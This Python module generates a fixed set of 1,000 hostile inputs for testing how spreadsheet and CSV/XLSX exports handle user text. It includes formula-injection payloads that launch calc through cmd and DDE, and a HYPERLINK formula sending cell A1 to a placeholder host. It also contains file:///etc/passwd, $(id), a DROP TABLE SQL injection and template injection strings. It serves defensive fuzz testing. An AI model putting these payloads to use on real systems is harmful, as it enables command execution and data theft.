"""A thousand remarks that spreadsheets, parsers and terminals have stumbled over; the same thousand each time."""

import itertools
import random
import unicodedata

COUNT = 1000
LENGTH_MAXIMUM = 500

# What hides a sign from a careless guard; blanks in front are taken away when a remark comes in.
BEFORE = ["", "'", "''", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\ufe0f"]
SIGNS = "=+-@|%＝＋－＠"
AFTER = [
    "1+1",
    "cmd|' /C calc'!A1",
    'HYPERLINK("http://voorbeeld.example/?"&A1;"klik hier")',
    "SUM(A1:A9)*9",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "'1",
]
ODD = [
    # Escapes of XLSX, whole, broken, nested, and with a mark on the underscore that ends them.
    "_x0041_", "_x000D_", "_x005F_", "_x005F_x0041_", "__x0041__", "_x0041", "_X0041_", "_x004G_", "_x0041_x0042_",
    "_x0041_\u0301", "_x0041_\u200d_", "x_x0041_y_x0042_z", "_x００４１_",
    # What XML means something by, alone and with marks that make one character of it and its neighbour.
    "&", "&amp;", "&#0;", "<", ">", "]]>", "<![CDATA[x]]>", "<!--", "<b>", "\"'<>&", "&\u0301", "<\u0301b>", ">\u0308",
    "\"\u0301", "&\u200d", "<\u200d", "&\ufe0f<\ufe0f", "a\u200d&\u200d<b",
    # What separates cells and rows.
    "a;b", "a,b", "a\nb", "a\n\nb", "a\n b\n  c", "\"", "\"\"", "a\"b", "\"a\"", "a\";\"=1", "\";=1", "1;=2", "\"=1\"",
    "a\u2028b", "a\u2029b", "a;\u0301b", "a,\u0301b", "a\\,b\\;c\\n", ";\u200d", "sep=;",
    # What a spreadsheet would make something else of.
    "01234", "+31612345678", "1E5", "12-03-2019", "1/2", "TRUE", "WAAR", "#N/A", "1,5", "1.5", "€ 5", "0x1F", "∞",
    "http://voorbeeld.example/", "mailto:a@voorbeeld.example", "file:///etc/passwd", "internal:Blad1!A1", "'s-Graveland",
    "'", "''", "'t Hart", "’s avonds", "`id`", "$(id)", "${HOME}", "%n%s", "{{7*7}}", "'; DROP TABLE offers; --",
    # Blanks that readers put into one, or take away.
    "a  b", "a   b", "a\u00a0b", "a \u00a0 b", "a \n b", "a \u0301b", "a  \u0301b", "a\u3000b", "a\u200b", "\u2800",
    # Writing that goes the other way, marks without end, and what is more than sixteen bits.
    "שלום =1", "مرحبا", "a\u200fb", "a\u200eb", "e" + "\u0301" * 9, "Z̸̡͍a̵l̷g̶o̸", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇳🇱🇳", "👍🏽", "𝒳", "𠜎", "\U0010fffd",
    "\ue000", "\ufffd", "\ufdd0", "\u0378", "ﷺ", "İı", "ﬁ", "ǅ", "Óst-Bükker", "ÿþ", "ï»¿", "â‚¬",
    "x" * LENGTH_MAXIMUM, "=" * LENGTH_MAXIMUM, "&" * LENGTH_MAXIMUM, "👩‍👩‍👧‍👦" * 70, "\"" * LENGTH_MAXIMUM, "a\n" * 249 + "z",
]  # fmt: skip
PIECES = [*"=+-@;,\"'&<>|%_x041 \n", "  ", "\u0301", "\u200d", "\u200b", "_x", "005F_", "é", "👍🏽", "＝", "]]>", "\\", "ß"]


def kept(text):
    """A remark as the house keeps it: in one spelling, without blanks around it."""
    return unicodedata.normalize("NFC", text).strip(" \n\t\u00a0\u2028\u2029\u3000\u200b")


def hostile():
    """The remarks: every sign behind everything that hides it, all that is odd, and what chance makes of the pieces."""
    chance = random.Random(2019)
    made = [before + sign + after for before, sign, after in itertools.product(BEFORE, SIGNS, AFTER)] + ODD
    texts = dict.fromkeys(filter(None, map(kept, made)))
    while len(texts) < COUNT:
        text = kept("".join(chance.choices(PIECES, k=chance.randint(1, 30))))
        if text and text[0] not in "\u0301\u200d":
            texts[text] = None
    return list(texts)
